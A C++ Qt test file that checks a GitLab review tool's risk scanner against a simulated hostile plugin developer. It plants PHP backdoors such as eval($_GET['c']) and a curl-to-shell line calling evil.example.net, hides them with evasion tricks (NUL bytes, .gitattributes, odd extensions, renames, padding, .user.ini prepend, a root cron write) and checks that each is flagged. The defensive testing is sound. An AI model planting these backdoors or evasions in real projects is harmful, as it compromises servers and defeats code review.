// A hostile plugin developer against the review's risk scan (issue 24):
// data planted through the GitLab emulator's API with a Developer account,
// loaded by the real ReviewLoader. Every case hides a backdoor where GitLab's
// diff, its collapse and the review's display limits do not show it.
#include "core/gitlab/gitlabclient.h"
#include "core/review/reviewloader.h"
#include "sandbox/emulator/gitlabemulator.h"
#include "tests/support/gitlabwait.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QThreadPool>

#include <memory>

using namespace Dockmaster;

namespace {

const QByteArray Backdoor = "<?php\n"
                            "// maintenance helper\n"
                            "eval($_GET['c']);\n"
                            "system('curl https://evil.example.net/x | sh');\n";

QJsonObject action(const QString &kind, const QString &path, const QByteArray &content)
{
    // base64 carries NUL bytes and invalid UTF-8 unchanged.
    return { { QStringLiteral("action"), kind },
             { QStringLiteral("file_path"), path },
             { QStringLiteral("encoding"), QStringLiteral("base64") },
             { QStringLiteral("content"), QString::fromLatin1(content.toBase64()) } };
}

QJsonObject move(const QString &from, const QString &to)
{
    return { { QStringLiteral("action"), QStringLiteral("move") },
             { QStringLiteral("previous_path"), from },
             { QStringLiteral("file_path"), to } };
}

QStringList flagsOf(const ReviewResult &result)
{
    QStringList out;
    for (const RiskFlag &f : result.flags)
        out.append(f.path + QLatin1Char(':') + RiskScanner::kindKey(f.kind));
    out.removeDuplicates();
    out.sort();
    return out;
}

} // namespace

class TestHostileReview : public QObject
{
    Q_OBJECT

    GitLabResponse call(GitLabClient *client, const QByteArray &method, const QString &path,
                        const QJsonObject &body = {})
    {
        const GitLabResponse response = Test::sendAndWait(client, method, path, body, 120000);
        [&] {
            QVERIFY2(response.error.kind != GitLabError::Kind::Timeout, qPrintable(path));
        }();
        return response;
    }

    // A commit by the developer on a new branch started from `start`; its SHA.
    QString developerCommit(const QString &start, const QJsonArray &actions, const QString &message)
    {
        const QString branch = QStringLiteral("release-%1").arg(++m_branches);
        const GitLabResponse r = call(m_dev.get(), "POST", m_projectPath + QStringLiteral("/repository/commits"),
                                      { { QStringLiteral("branch"), branch },
                                        { QStringLiteral("start_sha"), start },
                                        { QStringLiteral("commit_message"), message },
                                        { QStringLiteral("actions"), actions } });
        [&] {
            QVERIFY2(r.error.isOk(), qPrintable(r.error.message + QString::fromUtf8(r.body.left(300))));
        }();
        return QJsonDocument::fromJson(r.body).object().value(QStringLiteral("id")).toString();
    }

    ReviewResult review(const QString &live, const QString &requested, const ReviewLimits &limits = {})
    {
        ReviewLoader loader(m_admin.get());
        loader.setLimits(limits);
        QSignalSpy loaded(&loader, &ReviewLoader::loaded);
        QSignalSpy failed(&loader, &ReviewLoader::failed);
        loader.load(m_project, live, requested);
        [&] {
            QVERIFY(QTest::qWaitFor([&] { return !loaded.isEmpty() || !failed.isEmpty(); }, 240000));
            QVERIFY2(failed.isEmpty(), failed.isEmpty() ? "" : qPrintable(failed.first().first().toString()));
        }();
        return loaded.isEmpty() ? ReviewResult {} : loaded.first().first().value<ReviewResult>();
    }

    // What the old review saw: GitLab's diff alone.
    ReviewResult diffOnly(const QString &live, const QString &requested)
    {
        GitLabRequest request;
        request.path = m_projectPath + QStringLiteral("/repository/compare");
        request.query = { { QStringLiteral("from"), live },
                          { QStringLiteral("to"), requested },
                          { QStringLiteral("straight"), QStringLiteral("true") } };
        std::optional<GitLabResponse> out;
        m_admin->send(request, this, [&out](const GitLabResponse &r) { out = r; });
        [&] {
            QVERIFY(QTest::qWaitFor([&out] { return out.has_value(); }, 120000));
        }();
        return ReviewLoader::fromCompare(m_project, live, requested, out ? out->body : QByteArray(), {}, nullptr);
    }

private Q_SLOTS:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        m_emulator = std::make_unique<GitLabEmulator>(m_dir.path());
        QVERIFY(m_emulator->start());
        m_admin = std::make_unique<GitLabClient>();
        m_admin->setBaseUrl(m_emulator->baseUrl());
        m_admin->setToken(m_emulator->adminToken());
        const GitLabResponse created = call(m_admin.get(), "POST", QStringLiteral("/projects"),
                                            { { QStringLiteral("path"), QStringLiteral("app0000024") },
                                              { QStringLiteral("default_branch"), QStringLiteral("main") } });
        QVERIFY2(created.error.isOk(), qPrintable(created.error.message));
        m_project
            = QString::number(QJsonDocument::fromJson(created.body).object().value(QStringLiteral("id")).toInteger());
        m_projectPath = GitLabClient::projectPath(m_project);

        // The hostile developer: Developer role on repo A, nothing more.
        const EmulatorUser dev = m_emulator->addUser(QStringLiteral("dev24"), QStringLiteral("Dev 24"), false,
                                                     QStringLiteral("dev24-token"));
        const GitLabResponse member
            = call(m_admin.get(), "POST", m_projectPath + QStringLiteral("/members"),
                   { { QStringLiteral("user_id"), dev.id }, { QStringLiteral("access_level"), 30 } });
        QVERIFY2(member.error.isOk(), qPrintable(member.error.message));
        m_dev = std::make_unique<GitLabClient>();
        m_dev->setBaseUrl(m_emulator->baseUrl());
        m_dev->setToken(QStringLiteral("dev24-token"));

        // The live version (already reviewed): a harmless site, plus a helper
        // that was accepted with an eval in it long ago, and a text file.
        const GitLabResponse base
            = call(m_admin.get(), "POST", m_projectPath + QStringLiteral("/repository/commits"),
                   { { QStringLiteral("branch"), QStringLiteral("main") },
                     { QStringLiteral("commit_message"), QStringLiteral("Skeleton") },
                     { QStringLiteral("actions"),
                       QJsonArray {
                           action(QStringLiteral("create"), QStringLiteral("web/index.php"), "<?php\necho 'Hello';\n"),
                           action(QStringLiteral("create"), QStringLiteral("web/legacy/tool.php"), Backdoor),
                           action(QStringLiteral("create"), QStringLiteral("web/notes.txt"), Backdoor),
                           action(QStringLiteral("create"), QStringLiteral("README.md"), "Plugin\n") } } });
        QVERIFY2(base.error.isOk(), qPrintable(base.error.message));
        m_live = QJsonDocument::fromJson(base.body).object().value(QStringLiteral("id")).toString();
        QCOMPARE(m_live.size(), 40);
    }

    // Each row: files the developer adds or moves; the path that must be flagged.
    void backdoorIsFlaggedWhateverGitThinksOfIt_data()
    {
        QTest::addColumn<QJsonArray>("actions");
        QTest::addColumn<QString>("flagged");
        QTest::addColumn<bool>("diffAloneMissesIt");

        QByteArray nul = Backdoor;
        nul.replace(QByteArrayLiteral("// maintenance helper"), QByteArrayLiteral("/* \0 */"));
        QTest::newRow("NUL byte") << QJsonArray { action(QStringLiteral("create"), QStringLiteral("web/x.php"), nul) }
                                  << QStringLiteral("web/x.php") << true;
        QTest::newRow(".gitattributes binary")
            << QJsonArray { action(QStringLiteral("create"), QStringLiteral(".gitattributes"), "*.php binary\n"),
                            action(QStringLiteral("create"), QStringLiteral("web/bin.php"), Backdoor) }
            << QStringLiteral("web/bin.php") << false;
        QTest::newRow(".gitattributes -diff")
            << QJsonArray { action(QStringLiteral("create"), QStringLiteral(".gitattributes"), "web/** -diff\n"),
                            action(QStringLiteral("create"), QStringLiteral("web/nodiff.php"), Backdoor) }
            << QStringLiteral("web/nodiff.php") << false;
        QByteArray invalid = Backdoor;
        invalid.replace("// maintenance helper", "$x = \"\xff\xfe\xc3\x28\";");
        QTest::newRow("invalid UTF-8") << QJsonArray { action(QStringLiteral("create"), QStringLiteral("web/latin.php"),
                                                              invalid) }
                                       << QStringLiteral("web/latin.php") << false;
        QTest::newRow("upper-case X.PHP")
            << QJsonArray { action(QStringLiteral("create"), QStringLiteral("web/X.PHP"), Backdoor) }
            << QStringLiteral("web/X.PHP") << false;
        for (const char *name : { "web/a.phtml", "web/b.php5", "web/c.PhP7", "web/d.phar", "web/e.inc", "web/f.pht" }) {
            QTest::newRow(name) << QJsonArray { action(QStringLiteral("create"), QString::fromLatin1(name), Backdoor) }
                                << QString::fromLatin1(name) << false;
        }
        QTest::newRow("rename of a flagged file")
            << QJsonArray { move(QStringLiteral("web/legacy/tool.php"), QStringLiteral("web/t00l.php")) }
            << QStringLiteral("web/t00l.php") << true;
        QTest::newRow("rename of text into PHP")
            << QJsonArray { move(QStringLiteral("web/notes.txt"), QStringLiteral("web/notes.php")) }
            << QStringLiteral("web/notes.php") << true;
        QByteArray big = "<?php\n";
        while (big.size() < 1100 * 1024)
            big += "$padding[] = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';\n";
        big += "eval($_POST['z']);\n";
        QTest::newRow("1.1 MB file") << QJsonArray { action(QStringLiteral("create"), QStringLiteral("web/big.php"),
                                                            big) }
                                     << QStringLiteral("web/big.php") << false;
    }

    void backdoorIsFlaggedWhateverGitThinksOfIt()
    {
        QFETCH(QJsonArray, actions);
        QFETCH(QString, flagged);
        QFETCH(bool, diffAloneMissesIt);
        const QString requested = developerCommit(m_live, actions, QStringLiteral("Small fix"));
        QCOMPARE(requested.size(), 40);

        const ReviewResult result = review(m_live, requested);
        QVERIFY2(flagsOf(result).contains(flagged + QStringLiteral(":eval")), qPrintable(flagsOf(result).join(u' ')));
        QVERIFY2(result.scanComplete(), qPrintable(result.verdict()));
        QVERIFY(result.scanTotal >= 1);
        QCOMPARE(result.scanned, result.scanTotal);
        QVERIFY2(result.verdict().startsWith(QStringLiteral("Scanned %1 of %1 PHP files:").arg(result.scanTotal)),
                 qPrintable(result.verdict()));
        QVERIFY(!result.verdict().contains(QStringLiteral("none found")));

        // Why the old review was fooled: GitLab's diff alone does not show it.
        if (diffAloneMissesIt) {
            const ReviewResult old = diffOnly(m_live, requested);
            QVERIFY2(!flagsOf(old).contains(flagged + QStringLiteral(":eval")), qPrintable(flagsOf(old).join(u' ')));
        }
    }

    // Past every display limit of the review: files listed, one patch, all
    // patches together, and a first release's files. The scan ignores them all.
    void displayLimitsDoNotLimitTheScan()
    {
        ReviewLimits limits;
        limits.maxFiles = 3;
        limits.maxFileChars = 400;
        limits.maxTotalDiffChars = 700;
        limits.maxFirstReleaseFiles = 2;
        QByteArray padded = "<?php\n";
        for (int i = 0; i < 30; ++i)
            padded += "$a[] = 1;\n";
        padded += "eval($_GET['long']);\n";
        QJsonArray actions {
            action(QStringLiteral("create"), QStringLiteral("web/a1.php"), "<?php echo 1;\n"),
            action(QStringLiteral("create"), QStringLiteral("web/a2.php"), "<?php echo 2;\n"),
            action(QStringLiteral("create"), QStringLiteral("web/b-long.php"), padded), // past one patch's limit
            action(QStringLiteral("create"), QStringLiteral("web/c-total.php"), Backdoor),
            action(QStringLiteral("create"), QStringLiteral("web/zz-past-count.php"), Backdoor), // not listed
        };
        const QString requested = developerCommit(m_live, actions, QStringLiteral("Many files"));
        const ReviewResult result = review(m_live, requested, limits);
        QCOMPARE(result.files.size(), 3);
        QVERIFY(result.omittedFiles > 0);
        QVERIFY(result.tooLarge);
        const QStringList flags = flagsOf(result);
        for (const char *path : { "web/b-long.php", "web/c-total.php", "web/zz-past-count.php" })
            QVERIFY2(flags.contains(QString::fromLatin1(path) + QStringLiteral(":eval")), path);
        QVERIFY(result.scanComplete());
        QCOMPARE(result.scanTotal, 5);

        // A first release whose backdoor comes after the files the review shows.
        const ReviewResult first = review(QString(), requested, limits);
        QVERIFY(first.firstRelease);
        QCOMPARE(first.files.size(), 2);
        QVERIFY(first.omittedFiles > 0);
        QVERIFY2(flagsOf(first).contains(QStringLiteral("web/zz-past-count.php:eval")),
                 qPrintable(flagsOf(first).join(u' ')));
        QVERIFY(first.scanComplete());
    }

    // PHP-FPM reads .user.ini in every folder it runs a script from:
    // auto_prepend_file would run a text file as code.
    void phpSettingsFileIsFlagged()
    {
        const QString requested = developerCommit(m_live,
                                                  { action(QStringLiteral("create"), QStringLiteral("web/.user.ini"),
                                                           "auto_prepend_file = /srv/app/web/notes.txt\n") },
                                                  QStringLiteral("Settings"));
        const ReviewResult result = review(m_live, requested);
        QVERIFY2(flagsOf(result).contains(QStringLiteral("web/.user.ini:phpsettings")),
                 qPrintable(flagsOf(result).join(u' ')));
        QVERIFY(RiskScanner::isHighSeverity(RiskKind::PhpSettings));
    }

    // A release of 5,000 files with a backdoor at the very end.
    void fiveThousandFilesWithABackdoorAtTheEnd()
    {
        QJsonArray actions;
        for (int i = 0; i < 5000; ++i) {
            const bool php = i % 10 == 0;
            actions.append(action(QStringLiteral("create"),
                                  QStringLiteral("web/data/f%1.%2")
                                      .arg(i, 4, 10, QLatin1Char('0'))
                                      .arg(php ? QStringLiteral("php") : QStringLiteral("txt")),
                                  php ? QByteArray(QByteArray("<?php return ") + QByteArray::number(i) + ";\n")
                                      : QByteArray(QByteArray("line ") + QByteArray::number(i) + '\n')));
        }
        actions.append(action(QStringLiteral("create"), QStringLiteral("web/zzz/backdoor.php"),
                              "<?php\neval($_GET['c']);\nfile_put_contents('/etc/cron.d/x', '* * * * * root sh');\n"));
        const QString requested = developerCommit(m_live, actions, QStringLiteral("Data files"));
        const ReviewResult result = review(m_live, requested);
        QCOMPARE(result.files.size(), 1000); // the display limit stays
        QCOMPARE(result.omittedFiles, 4001);
        const QStringList flags = flagsOf(result);
        QVERIFY2(flags.contains(QStringLiteral("web/zzz/backdoor.php:eval")), qPrintable(flags.join(u' ')));
        QVERIFY2(flags.contains(QStringLiteral("web/zzz/backdoor.php:write")), qPrintable(flags.join(u' ')));
        QCOMPARE(result.scanTotal, 501);
        QCOMPARE(result.scanned, 501);
        QVERIFY2(result.verdict().startsWith(QStringLiteral("Scanned 501 of 501 PHP files: 2 flag")),
                 qPrintable(result.verdict()));
    }

    // A file that cannot be read is named, and "none found" is never said.
    void unreadableFileIsNamedNotScanned()
    {
        const QString requested
            = developerCommit(m_live,
                              { action(QStringLiteral("create"), QStringLiteral("web/hidden.php"),
                                       QByteArrayLiteral("<?php /*\0*/ echo 1;\n")),
                                action(QStringLiteral("create"), QStringLiteral("web/fine.php"), "<?php echo 2;\n") },
                              QStringLiteral("Two files"));
        const int fault
            = m_emulator->addFault(EmulatorFault::serverError(QStringLiteral("files/web%2Fhidden\\.php/raw"), 404, -1));
        const ReviewResult result = review(m_live, requested);
        m_emulator->removeFault(fault);
        QVERIFY(!result.scanComplete());
        QCOMPARE(result.unscanned.size(), 1);
        QCOMPARE(result.unscanned.first().path, QStringLiteral("web/hidden.php"));
        QVERIFY(result.flags.isEmpty());
        QVERIFY2(QRegularExpression(QStringLiteral("^1 file(\\(s\\))? not scanned \\(could not be read"))
                     .match(result.verdict())
                     .hasMatch(),
                 qPrintable(result.verdict()));
        QVERIFY(result.verdict().contains(QStringLiteral("Scanned 1 of 2 PHP files")));
        QVERIFY(!result.verdict().contains(QStringLiteral("none found")));
    }

    // Cancelling a long scan drops it: no result arrives, nothing is left running.
    void cancellingALongScan()
    {
        const int slow = m_emulator->addFault(EmulatorFault::delay(QStringLiteral("/raw$"), 200, -1));
        QJsonArray actions;
        for (int i = 0; i < 40; ++i)
            actions.append(action(QStringLiteral("create"), QStringLiteral("web/p%1.php").arg(i),
                                  QByteArrayLiteral("<?php /*\0*/ echo 1;\n")));
        const QString requested = developerCommit(m_live, actions, QStringLiteral("Binary PHP"));
        ReviewLoader loader(m_admin.get());
        QSignalSpy loaded(&loader, &ReviewLoader::loaded);
        QSignalSpy progress(&loader, &ReviewLoader::progress);
        loader.load(m_project, m_live, requested);
        QVERIFY(QTest::qWaitFor([&] { return progress.size() >= 2; }, 120000));
        loader.cancel();
        QVERIFY(!loader.isLoading());
        QTest::qWait(1500);
        QVERIFY(loaded.isEmpty());
        m_emulator->removeFault(slow);
    }

    // The admin selects another request while a big release is being
    // scanned: that scan stops, and only the request now selected is shown.
    void selectingAnotherRequestDuringTheScan()
    {
        QByteArray vendor = "<?php\n";
        for (int i = 0; i < 60000; ++i)
            vendor += "$rows[] = array_map('trim', explode(',', $line" + QByteArray::number(i) + "));\n";
        vendor += "eval($code);\n";
        QJsonArray big;
        for (int i = 0; i < 3; ++i)
            big.append(action(QStringLiteral("create"), QStringLiteral("vendor/lib%1/big.php").arg(i), vendor));
        const QString first = developerCommit(m_live, big, QStringLiteral("Vendor update"));
        const QString second = developerCommit(
            m_live, { action(QStringLiteral("create"), QStringLiteral("web/small.php"), "<?php\nsystem($c);\n") },
            QStringLiteral("Small change"));

        ReviewLoader loader(m_admin.get());
        QSignalSpy loaded(&loader, &ReviewLoader::loaded);
        QSignalSpy failed(&loader, &ReviewLoader::failed);
        QSignalSpy progress(&loader, &ReviewLoader::progress);
        loader.load(m_project, m_live, first);
        // Every file read: the scan of the first release has started.
        QVERIFY(QTest::qWaitFor(
            [&] {
                return !progress.isEmpty() && progress.constLast().at(0).toInt() == progress.constLast().at(1).toInt();
            },
            240000));
        QVERIFY(loaded.isEmpty());
        loader.load(m_project, m_live, second);
        QVERIFY(QTest::qWaitFor([&] { return !loaded.isEmpty() || !failed.isEmpty(); }, 240000));
        QVERIFY2(failed.isEmpty(), failed.isEmpty() ? "" : qPrintable(failed.first().first().toString()));
        QVERIFY(QThreadPool::globalInstance()->waitForDone(240000)); // the first scan ended too
        QTest::qWait(200);
        QCOMPARE(loaded.size(), 1);
        const ReviewResult result = loaded.first().first().value<ReviewResult>();
        QCOMPARE(result.toSha, second);
        QCOMPARE(flagsOf(result), QStringList { QStringLiteral("web/small.php:shell") });
    }

private:
    QTemporaryDir m_dir;
    std::unique_ptr<GitLabEmulator> m_emulator;
    std::unique_ptr<GitLabClient> m_admin;
    std::unique_ptr<GitLabClient> m_dev;
    QString m_project;
    QString m_projectPath;
    QString m_live;
    int m_branches = 0;
};

QTEST_GUILESS_MAIN(TestHostileReview)
#include "tst_hostilereview.moc"
